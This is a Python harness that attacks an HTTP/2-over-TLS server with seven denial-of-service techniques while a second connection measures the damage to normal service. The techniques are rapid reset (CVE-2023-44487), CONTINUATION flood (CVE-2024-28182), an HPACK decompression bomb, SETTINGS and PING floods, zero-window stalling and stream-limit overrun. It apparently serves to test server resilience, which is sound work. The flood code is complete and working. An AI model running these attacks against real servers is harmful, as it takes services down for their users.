#!/usr/bin/python3
"""Attacks an HTTP/2 server over TLS the ways hostile clients do, while a well-behaved viewer keeps
asking for a file beside it, and reports what the server did.

Usage: h2_hostile.py HOST:PORT --case CASE [--path PATH] [--viewer-path PATH] [--seconds S] [--pid PID]

Cases, each on its own TLS connection that negotiated `h2` (Python's h2 for the protocol, its
hyperframe and hpack for the frames a well-behaved library will not send):

    rapid-reset       HEADERS then RST_STREAM at once, stream after stream (CVE-2023-44487)
    continuation      one HEADERS without END_HEADERS, then CONTINUATION frames without end (CVE-2024-28182)
    hpack-bomb        one large header put in the dynamic table, then request headers naming it over
                      and over: a few bytes on the wire that decode to megabytes
    settings-flood    SETTINGS frames without end, never reading the acknowledgements
    ping-flood        PING frames without end, never reading the answers
    zero-window       a window of 0 bytes that never opens, and requests for PATH on every stream
    stream-limit      more streams at once than the server's SETTINGS_MAX_CONCURRENT_STREAMS, none read

The attack runs until the server closes the connection or S seconds (default 10) pass. Meanwhile,
for the S seconds and at least one more, a viewer on another h2 connection asks for VIEWER-PATH
(default PATH) every 100 ms. Prints one JSON line:
{"case", "closed": the server closed the connection (GOAWAY or end of stream), "goaway": its error
code or null, "seconds": until closed, "sentBytes", "refusedStreams", "viewer": {"requests",
"failures", "maxMilliseconds"}, "rssKB": [before, after] with --pid}. Exit status 0 always when the
run itself worked (the caller judges), 2 when the server cannot be reached over h2.
"""
import argparse
import json
import socket
import ssl
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events
import hpack
from hyperframe.frame import (ContinuationFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame,
                              WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def connect(host, port):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    raw = socket.create_connection((host, port), timeout=5)
    wrapped = context.wrap_socket(raw, server_hostname=host)
    if wrapped.selected_alpn_protocol() != "h2":
        raise RuntimeError(f"ALPN chose {wrapped.selected_alpn_protocol()!r}, not h2")
    return wrapped


def rss_kb(pid):
    if not pid:
        return None
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return None


class Viewer(threading.Thread):
    """A viewer that asks for one path every 100 ms on its own h2 connection, timing each answer."""

    def __init__(self, host, port, path, authority):
        super().__init__(daemon=True)
        self.host, self.port, self.path, self.authority = host, port, path, authority
        self.stop = threading.Event()
        self.requests = 0
        self.failures = 0
        self.max_ms = 0.0

    def run(self):
        try:
            sock = connect(self.host, self.port)
            connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
            connection.initiate_connection()
            sock.sendall(connection.data_to_send())
        except Exception:  # noqa: BLE001 - counted as a failure, reported to the caller
            self.failures += 1
            return
        while not self.stop.is_set():
            started = time.monotonic()
            try:
                stream = connection.get_next_available_stream_id()
                connection.send_headers(stream, [(":method", "GET"), (":path", self.path), (":scheme", "https"),
                                                 (":authority", self.authority)], end_stream=True)
                sock.sendall(connection.data_to_send())
                done = False
                status = None
                while not done:
                    data = sock.recv(65536)
                    if not data:
                        raise ConnectionError("closed")
                    for event in connection.receive_data(data):
                        if isinstance(event, h2.events.ResponseReceived):
                            status = dict(event.headers).get(b":status")
                        elif isinstance(event, h2.events.DataReceived):
                            connection.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                        elif isinstance(event, h2.events.StreamEnded) and event.stream_id == stream:
                            done = True
                        elif isinstance(event, h2.events.StreamReset) and event.stream_id == stream:
                            raise ConnectionError("reset")
                    sock.sendall(connection.data_to_send())
                self.requests += 1
                if status != b"200":
                    self.failures += 1
            except Exception:  # noqa: BLE001
                self.failures += 1
                return
            self.max_ms = max(self.max_ms, (time.monotonic() - started) * 1000)
            self.stop.wait(0.1)


class Attack:
    def __init__(self, sock, path, authority):
        self.sock = sock
        self.path = path
        self.authority = authority
        self.sent = 0
        self.closed = False
        self.goaway = None
        self.refused = 0
        self.encoder = hpack.Encoder()
        self.sock.setblocking(False)
        self.pending = b""

    def send(self, data):
        """Queues bytes and writes what the socket takes now; never blocks, as a flooder does not wait."""
        self.pending += data
        try:
            written = self.sock.send(self.pending[:1 << 20])
            self.pending = self.pending[written:]
            self.sent += written
        except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
            pass
        except OSError:
            self.closed = True

    def backlog(self):
        return len(self.pending)

    def read(self):
        """Reads what the server sent, looking only for GOAWAY, RST_STREAM and the end of the connection."""
        while True:
            try:
                data = self.sock.recv(65536)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                return
            except OSError:
                self.closed = True
                return
            if not data:
                self.closed = True
                return
            self.scan(data)

    buffer = b""

    def scan(self, data):
        self.buffer += data
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                return
            kind = self.buffer[3]
            payload = self.buffer[9:9 + length]
            self.buffer = self.buffer[9 + length:]
            if kind == 0x7 and len(payload) >= 8:  # GOAWAY
                self.goaway = int.from_bytes(payload[4:8], "big")
            elif kind == 0x3 and int.from_bytes(payload[:4], "big") == 0x7:  # RST_STREAM REFUSED_STREAM
                self.refused += 1

    def headers_block(self, extra=()):
        # Never indexed, so that the dynamic table holds only what a case puts there.
        request = [hpack.NeverIndexedHeaderTuple(name, value) for name, value in
                   ((":method", "GET"), (":path", self.path), (":scheme", "https"), (":authority", self.authority))]
        return self.encoder.encode(request + list(extra))

    def start(self, settings=None):
        self.send(PREFACE + SettingsFrame(0, settings=settings or {}).serialize())


def run_case(case, attack, deadline):
    stream = 1
    if case == "rapid-reset":
        attack.start()
        while not attack.closed and time.monotonic() < deadline:
            if attack.backlog() < (1 << 20):
                frames = b""
                for _ in range(100):
                    frames += HeadersFrame(stream, data=attack.headers_block(), flags=["END_HEADERS", "END_STREAM"]).serialize()
                    frames += RstStreamFrame(stream, error_code=0x8).serialize()
                    stream += 2
                attack.send(frames)
            else:
                attack.send(b"")
                time.sleep(0.001)
            attack.read()
    elif case == "continuation":
        attack.start()
        block = attack.headers_block()
        attack.send(HeadersFrame(1, data=block[:1]).serialize())
        junk = attack.encoder.encode([("x-junk", "a" * 1000)])
        while not attack.closed and time.monotonic() < deadline:
            if attack.backlog() < (1 << 20):
                attack.send(b"".join(ContinuationFrame(1, data=junk).serialize() for _ in range(64)))
            else:
                attack.send(b"")
                time.sleep(0.001)
            attack.read()
    elif case == "hpack-bomb":
        attack.start()
        # A 4,000-byte value into the dynamic table (its first entry, index 62), then requests naming it
        # 1,000 times each: 1 kB sent per request for 4 MB of decoded headers.
        attack.send(HeadersFrame(stream, data=attack.headers_block([("x-bomb", "b" * 4000)]),
                                 flags=["END_HEADERS", "END_STREAM"]).serialize())
        stream += 2
        reference = bytes([0x80 | 62])
        while not attack.closed and time.monotonic() < deadline:
            if attack.backlog() < (1 << 20):
                attack.send(HeadersFrame(stream, data=attack.headers_block() + reference * 1000,
                                         flags=["END_HEADERS", "END_STREAM"]).serialize())
                stream += 2
            else:
                attack.send(b"")
                time.sleep(0.001)
            attack.read()
    elif case in ("settings-flood", "ping-flood"):
        attack.start()
        # Never reading: the answers pile up on the server's side unless it stops reading or closes.
        while not attack.closed and time.monotonic() < deadline:
            if attack.backlog() < (1 << 20):
                if case == "settings-flood":
                    frame = SettingsFrame(0, settings={SettingsFrame.ENABLE_PUSH: 0}).serialize()
                else:
                    frame = PingFrame(0, opaque_data=b"12345678").serialize()
                attack.send(frame * 1000)
            else:
                attack.send(b"")
                time.sleep(0.01)
                attack.read()
    elif case in ("zero-window", "stream-limit"):
        # Requests whose answers can never be sent: 50 of them, or 300, over the server's stream limit.
        attack.start({SettingsFrame.INITIAL_WINDOW_SIZE: 0})
        for _ in range(50 if case == "zero-window" else 300):
            attack.send(HeadersFrame(stream, data=attack.headers_block(), flags=["END_HEADERS", "END_STREAM"]).serialize())
            stream += 2
        while not attack.closed and time.monotonic() < deadline:
            attack.send(b"")
            attack.read()
            time.sleep(0.05)
    else:
        raise ValueError(f"unknown case {case}")


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("address")
    parser.add_argument("--case", required=True)
    parser.add_argument("--path", default="/")
    parser.add_argument("--viewer-path")
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--pid", type=int)
    options = parser.parse_args()
    host, port = options.address.rsplit(":", 1)
    port = int(port)
    authority = f"{host}:{port}"
    try:
        sock = connect(host, port)
    except Exception as error:  # noqa: BLE001
        print(f"h2_hostile.py: {options.address}: {error}", file=sys.stderr)
        return 2
    viewer = Viewer(host, port, options.viewer_path or options.path, authority)
    viewer.start()
    before = rss_kb(options.pid)
    started = time.monotonic()
    attack = Attack(sock, options.path, authority)
    run_case(options.case, attack, started + options.seconds)
    seconds = time.monotonic() - started
    after = rss_kb(options.pid)
    # The viewer goes on for the whole time given, and a second more, whenever the attack ended.
    time.sleep(max(1.0, started + options.seconds - time.monotonic()))
    viewer.stop.set()
    viewer.join(timeout=5)
    sock.close()
    print(json.dumps({
        "case": options.case, "closed": attack.closed, "goaway": attack.goaway, "seconds": round(seconds, 3),
        "sentBytes": attack.sent, "refusedStreams": attack.refused,
        "viewer": {"requests": viewer.requests, "failures": viewer.failures,
                   "maxMilliseconds": round(viewer.max_ms, 1)},
        "rssKB": [before, after] if options.pid else None,
    }))
    return 0


if __name__ == "__main__":
    sys.exit(main())
